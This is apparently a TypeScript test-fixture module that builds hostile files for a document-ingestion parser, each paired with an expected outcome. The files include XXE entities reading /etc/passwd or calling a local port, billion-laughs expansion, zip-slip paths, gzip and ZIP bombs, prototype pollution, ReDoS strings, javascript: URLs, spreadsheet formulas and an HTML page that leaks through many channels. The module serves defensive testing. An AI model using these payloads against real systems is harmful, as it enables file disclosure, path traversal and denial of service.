/**
 * Files that were made to do harm, each of a class that says what must come of it. Small ones are generated here, so that
 * the tests have work everywhere; more of the same classes lie beside a checkout, listed in an `index.jsonl`.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync, gzipSync } from 'node:zlib';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { docxOf, docxParagraph, pdfOf, warcOf } from './carriers';
import { articleAbout, htmlPage, mail } from './documents';

/** What must come of a class of files, by the name that the index gives it. */
export const HOSTILE_CLASSES = {
  'entity expansion': 'refused',
  XXE: 'refused',
  'XXE/SSRF': 'refused',
  'XXE parameter entity': 'refused',
  'zip-slip': 'harmless',
  'decompression bomb (ratio >1000:1)': 'too much',
  'zip entry-count': 'too much',
  'gzip bomb': 'too much',
  'malformed WARC': 'refused',
  'CSV formula injection': 'as written',
  'prototype pollution': 'as written',
  'deep JSON': 'as written',
  'URL schemes': 'as written',
  ReDoS: 'as written',
  offsets: 'as written',
  'lone surrogates': 'as written',
  'SVG/CSS/HTML exfiltration': 'readable',
  nesting: 'harmless',
  loops: 'harmless',
  'names of prototypes': 'harmless',
} as const satisfies Record<string, Outcome>;

/**
 * `refused`: one sentence. `too much`: one sentence, before much was unpacked. `as written`: a text with exactly the
 * characters of the file. `readable`: a text with the words that are meant for people. `harmless`: a text or a sentence.
 */
type Outcome = 'refused' | 'too much' | 'as written' | 'readable' | 'harmless';

/** A file that was made to do harm. */
export interface HostileFile {
  readonly name: string;
  readonly klass: keyof typeof HOSTILE_CLASSES;
  readonly bytes: Uint8Array;
}

/** The words that the files mean for people; what comes out readable holds one of them. */
export const READABLE = /Leak test|slip|provincial council/u;

const XML = '<?xml version="1.0"?>';
const MEBIBYTE = 1024 * 1024;

/** Small hostile files of every class; those that reach for the network reach for this port of this machine. */
export function generatedHostileFiles(port: number): HostileFile[] {
  const address = `http://127.0.0.1:${port}`;
  const about = articleAbout('hostile file');
  const declared = (doctype: string, words: string): Uint8Array => docxOf(docxParagraph(words), {}, `${XML}${doctype}`);
  const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
  const bomb = Buffer.alloc(100 * MEBIBYTE, 65);
  const json = (value: unknown): Uint8Array => strToU8(JSON.stringify(value));
  const style = (id: string, on: string): string =>
    `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${on}"/></w:style>`;
  const files: [klass: HostileFile['klass'], name: string, bytes: Uint8Array][] = [
    ['entity expansion', 'laughs.docx', declared(`<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>`, '&l9;')],
    [
      'entity expansion',
      'laughs.qdpx',
      zipSync({ 'project.qde': strToU8(`${XML}<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]><x>&l9;</x>`) }),
    ],
    ['XXE', 'passwords.docx', declared('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 'before &x; after')],
    [
      'XXE',
      'passwords-in-properties.docx',
      docxOf(docxParagraph('provincial council'), {
        'docProps/core.xml': `${XML}<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>`,
      }),
    ],
    ['XXE/SSRF', 'call-home.docx', declared(`<!DOCTYPE x [<!ENTITY x SYSTEM "${address}/xxe">]>`, '&x;')],
    [
      'XXE parameter entity',
      'call-home-early.docx',
      declared(`<!DOCTYPE x [<!ENTITY % p SYSTEM "${address}/p.dtd"> %p;]>`, 't'),
    ],
    [
      'zip-slip',
      'slip.docx',
      docxOf(docxParagraph('slip'), {
        '../../../../evil-1.txt': 'pwned',
        'word/media/..\\..\\evil-2.txt': 'pwned',
        '/evil-3.txt': 'pwned',
        'C:\\evil-4.txt': 'pwned',
      }),
    ],
    [
      'zip-slip',
      'slip.wacz',
      zipSync({
        'archive/../../../evil-5.txt': strToU8('pwned'),
        'archive/data.warc': strToU8(warcOf(htmlPage(about), '../../evil-6.txt')),
      }),
    ],
    ['zip-slip', 'slip.eml', strToU8(mail(about, { '../../../evil-7.html': '<p>pwned</p>' }))],
    [
      'decompression bomb (ratio >1000:1)',
      'bomb.docx',
      docxOf(docxParagraph('bomb'), { 'word/media/zeros.bin': new Uint8Array(64 * MEBIBYTE) }),
    ],
    ['decompression bomb (ratio >1000:1)', 'bomb-in-body.docx', docxOf(docxParagraph('A'.repeat(64 * MEBIBYTE)))],
    [
      'gzip bomb',
      'bomb.warc.gz',
      gzipSync(
        Buffer.concat([
          Buffer.from(
            `WARC/1.1\r\nWARC-Type: resource\r\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-000000000001>\r\nWARC-Target-URI: http://example.com/\r\nWARC-Date: 2026-01-01T00:00:00Z\r\nContent-Type: text/html\r\nContent-Length: ${bomb.byteLength}\r\n\r\n`,
          ),
          bomb,
        ]),
        { level: 6 },
      ),
    ],
    ['gzip bomb', 'bomb-in-answer.warc', packedAnswer(gzipSync(bomb, { level: 6 }))],
    [
      'gzip bomb',
      'bomb-in-archive.wacz',
      zipSync({ 'archive/data.warc': packedAnswer(gzipSync(bomb, { level: 6 })) }, { level: 0 }),
    ],
    ['zip entry-count', 'many.wacz', manyEntries(70_000)],
    ['zip entry-count', 'many.docx', manyEntries(30_000)],
    [
      'malformed WARC',
      'lie.warc',
      strToU8(
        'WARC/1.1\r\nWARC-Type: resource\r\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-000000000002>\r\nWARC-Target-URI: javascript:alert(1)\r\nWARC-Date: 2026-01-01T00:00:00Z\r\nContent-Type: text/html\r\nContent-Length: 99999999999\r\n\r\n<p>short',
      ),
    ],
    [
      'malformed WARC',
      'negative.warc',
      strToU8('WARC/1.1\r\nWARC-Type: resource\r\nContent-Type: text/html\r\nContent-Length: -5\r\n\r\n<p>short'),
    ],
    ['CSV formula injection', 'formulas.json', json(FORMULAS)],
    [
      'prototype pollution',
      'prototype.json',
      strToU8('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'),
    ],
    ['deep JSON', 'deep.json', strToU8('['.repeat(100_000) + ']'.repeat(100_000))],
    ['URL schemes', 'addresses.json', json(OTHER_ADDRESSES)],
    ['ReDoS', 'slow.json', json(slowStrings(8_000))],
    ['offsets', 'offsets.txt', strToU8(OFFSETS_TEXT)],
    ['lone surrogates', 'half.json', strToU8('{"exact":"a\\ud83d b","note":"\\udc00"}')],
    ['SVG/CSS/HTML exfiltration', 'leak.html', strToU8(leakPage(address))],
    ['nesting', 'deep.html', strToU8(`<!doctype html><body>${'<div>'.repeat(100_000)}<p>deep words`)],
    ['nesting', 'deep.svg.html', strToU8(`<!doctype html><body><p>words</p>${'<svg><g>'.repeat(50_000)}`)],
    ['nesting', 'deep.md', strToU8(`# Deep\n\n${'>'.repeat(50_000)} words\n\n${'* '.repeat(20_000)}x\n`)],
    ['nesting', 'deep-links.md', strToU8(`# Deep\n\n${'['.repeat(1_000)}x${'](y)'.repeat(1_000)}\n`)],
    [
      'nesting',
      'deep.docx',
      docxOf(
        `${'<w:sdt><w:sdtContent>'.repeat(30_000)}${docxParagraph('words')}${'</w:sdtContent></w:sdt>'.repeat(30_000)}`,
      ),
    ],
    ['nesting', 'deep.eml', nestedMail(2_000)],
    [
      'nesting',
      'many-parts.eml',
      strToU8(
        `From: a@b.example\r\nTo: c@d.example\r\nSubject: parts\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="p"\r\n\r\n${'--p\r\nContent-Type: text/plain\r\n\r\nx\r\n'.repeat(50_000)}--p--\r\n`,
      ),
    ],
    [
      'nesting',
      'deep-data.html',
      strToU8(
        `<!doctype html><script type="application/ld+json">${'['.repeat(50_000)}${']'.repeat(50_000)}</script><p>provincial council</p>`,
      ),
    ],
    [
      'loops',
      'styles.docx',
      docxOf(`<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>slip</w:t></w:r></w:p>`, {
        'word/styles.xml': `${XML}<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${style('A', 'B')}${style('B', 'A')}${style('__proto__', 'constructor')}</w:styles>`,
      }),
    ],
    [
      'loops',
      'pages.pdf',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 99999999 >>']),
    ],
    ['loops', 'stream.pdf', flatePdf(deflateSync(Buffer.alloc(100 * MEBIBYTE, 32), { level: 6 }))],
    [
      'loops',
      'members.warc',
      strToU8(
        warcOf('<p>one</p>', 'https://gazette.example/a').repeat(2) +
          'WARC/1.0\r\nContent-Length: 0\r\n\r\n'.repeat(10_000),
      ),
    ],
  ];
  return files.map(([klass, name, bytes]) => ({ klass, name, bytes }));
}

/** The hostile files that the index in `folder` lists, as they are but for the port that they reach for. */
export function listedHostileFiles(folder: string, port: number): HostileFile[] {
  return readFileSync(join(folder, 'index.jsonl'), 'utf8')
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => {
      const { file, klass } = JSON.parse(line) as { file: string; klass: string };
      if (!isHostileClass(klass)) throw new Error(`The index lists a class that no test knows: ${klass}`);
      const many = /make-many-entries\.py (\S+) (\d+)/u.exec(file);
      if (many) return { name: `listed-${many[1]}`, klass, bytes: manyEntries(Number(many[2])) };
      return { name: file, klass, bytes: towards(port, file, readFileSync(join(folder, file))) };
    });
}

/** What is not an address of the web, or must not become a link in some other way. */
export const OTHER_ADDRESSES: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://gazette.example/%0aalert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  '\\\\127.0.0.1\\share',
  'smb://127.0.0.1/x',
  'ms-msdt:/id',
  'blob:null/x',
  'view-source:http://x',
  'chrome://settings',
  'mailto:x@y?attach=/etc/passwd',
  'x-apple:y',
];

/** What a spreadsheet may take for a formula, and what looks like it. */
export const FORMULAS: readonly string[] = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '\n=1+1', '\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20x'],
  ...[
    "'=1+1",
    '"=1+1',
    ';=1+1',
    ',=1+1',
    '=\u200B1+1',
    '\u00A0=1+1',
    '-5.3',
    '@handle',
    '=HYPERLINK("http://x.invalid/?"&A1,"x")',
  ],
];

/** A text in which UTF-16 units, code points and UTF-8 bytes all count differently, with every kind of line end. */
const OFFSETS_TEXT =
  'Line one\r\nLine two 👨‍👩‍👧‍👦 family\r\nשלום abc مرحبا 123\rLone CR line\nCafe\u0301 vs Café\r\n\uFB01nance \u200FRLM\u200E LRM \u2067iso\u2069 \0NUL? \u00A0\u00AD soft\u00ADhyphen \uFEFFBOM\r\n𝔘𝔫𝔦 math 𠮷野家 end\r\n';

/** Strings on which careless expressions take time that grows with the square of their length, or worse. */
export function slowStrings(length: number): Readonly<Record<string, string>> {
  const of = (piece: string): string => piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
  return {
    quote: `${of('a')}!`,
    nested: of('(') + of(')'),
    spaces: `${of(' ')}x`,
    lines: `${of('\n')}x`,
    mail: of('a@'),
    url: `http://${of('a.')}`,
    date: of('1'),
    rtl: `${of('\u202E')}x`,
    combining: `e${of('\u0301')}`,
    tags: of('<'),
    hyphens: `${of('-')}x`,
    brackets: of('['),
    quotes: of('“'),
    lists: `${of('* ')}x`,
    replies: `${of('>')}x`,
  };
}

function isHostileClass(klass: string): klass is HostileFile['klass'] {
  return Object.hasOwn(HOSTILE_CLASSES, klass);
}

/** The same file reaching for another port than 9, where nobody listens. */
function towards(port: number, name: string, bytes: Uint8Array): Uint8Array {
  const turned = (text: string): string => text.replaceAll('127.0.0.1:9', `127.0.0.1:${port}`);
  if (name.endsWith('.html')) return strToU8(turned(strFromU8(bytes)));
  if (!/^xxe-\w+\.docx$/u.test(name)) return bytes;
  const parts = Object.entries(unzipSync(bytes));
  return zipSync(Object.fromEntries(parts.map(([part, content]) => [part, strToU8(turned(strFromU8(content)))])));
}

/** A captured page whose body is packed. */
function packedAnswer(body: Uint8Array): Uint8Array {
  const http = Buffer.from(
    `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\nContent-Length: ${body.byteLength}\r\n\r\n`,
  );
  const head = Buffer.from(
    `WARC/1.1\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-000000000003>\r\nWARC-Target-URI: https://gazette.example/bomb\r\nWARC-Date: 2026-01-01T00:00:00Z\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: ${http.byteLength + body.byteLength}\r\n\r\n`,
  );
  return Buffer.concat([head, http, body, Buffer.from('\r\n\r\n')]);
}

/** Mails attached to mails. */
function nestedMail(depth: number): Uint8Array {
  const head =
    'From: a@b.example\r\nTo: c@d.example\r\nSubject: deep\r\nDate: Fri, 30 Jul 2021 12:30:00 +0300\r\nMIME-Version: 1.0\r\n';
  const open = Array.from(
    { length: depth },
    (_, n) => `Content-Type: multipart/mixed; boundary="p${n}"\r\n\r\n--p${n}\r\n`,
  );
  return strToU8(`${head}${open.join('')}Content-Type: text/plain\r\n\r\nwords\r\n`);
}

function flatePdf(stream: Uint8Array): Uint8Array {
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>',
    Buffer.concat([
      Buffer.from(`<< /Length ${stream.byteLength} /Filter /FlateDecode >>\nstream\n`),
      stream,
      Buffer.from('\nendstream'),
    ]),
  ]);
}

/** A ZIP archive of so many empty files, with the ZIP64 records that more than 65,535 need (APPNOTE.TXT 6.3.10, 4.3.14). */
function manyEntries(count: number): Uint8Array {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (let n = 0; n < count; n++) {
    const name = Buffer.from(`archive/${n}`);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(name.byteLength, 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(name.byteLength, 28);
    entry.writeUInt32LE(offset, 42);
    locals.push(local, name);
    central.push(entry, name);
    offset += local.byteLength + name.byteLength;
  }
  const directory = Buffer.concat(central);
  const end64 = Buffer.alloc(56);
  end64.writeUInt32LE(0x06064b50, 0);
  end64.writeBigUInt64LE(44n, 4);
  for (const at of [24, 32]) end64.writeBigUInt64LE(BigInt(count), at);
  end64.writeBigUInt64LE(BigInt(directory.byteLength), 40);
  end64.writeBigUInt64LE(BigInt(offset), 48);
  const locator = Buffer.alloc(20);
  locator.writeUInt32LE(0x07064b50, 0);
  locator.writeBigUInt64LE(BigInt(offset + directory.byteLength), 8);
  locator.writeUInt32LE(1, 16);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  for (const at of [8, 10]) end.writeUInt16LE(Math.min(count, 0xffff), at);
  end.writeUInt32LE(directory.byteLength, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end64, locator, end]);
}

/** A page that reaches for `address` in every way that HTML and CSS know. */
export function leakPage(address: string): string {
  const url = (name: string): string => `${address}/${name}`;
  return `<!doctype html><html><head><base href="${url('')}"><meta http-equiv="refresh" content="0;url=${url('refresh')}">
<link rel="stylesheet" href="${url('css')}"><link rel="preload" as="image" href="${url('preload')}"><link rel="prefetch" href="${url('prefetch')}"><link rel="preconnect" href="${url('')}"><link rel="icon" href="${url('icon')}">
<style>@import "${url('import')}";@font-face{font-family:f;src:url(${url('font')})}body{font-family:f;background:url(${url('background')})}</style></head>
<body background="${url('body')}"><p>Leak test <i>x</i></p><img src="${url('img')}" srcset="${url('srcset')} 2x"><video poster="${url('poster')}" src="${url('video')}"></video>
<iframe src="${url('frame')}"></iframe><iframe srcdoc="<img src=${url('srcdoc')}>"></iframe><object data="${url('object')}"></object><embed src="${url('embed')}">
<svg><image href="${url('svg')}"/><use href="${url('use')}#x"/></svg><form action="${url('form')}"><button formaction="${url('button')}">b</button></form>
<a href="${url('link')}" ping="${url('ping')}">link</a><input type="image" src="${url('input')}"><script src="${url('script')}"></script>
<script>fetch('${url('fetch')}');new WebSocket('${url('socket')}'.replace('http','ws'));navigator.sendBeacon('${url('beacon')}');new RTCPeerConnection({iceServers:[{urls:'stun:${new URL(address).host}'}]}).createOffer()</script>
<template shadowrootmode="open"><img src="${url('shadow')}"></template><noscript><img src="${url('noscript')}"></noscript></body></html>`;
}
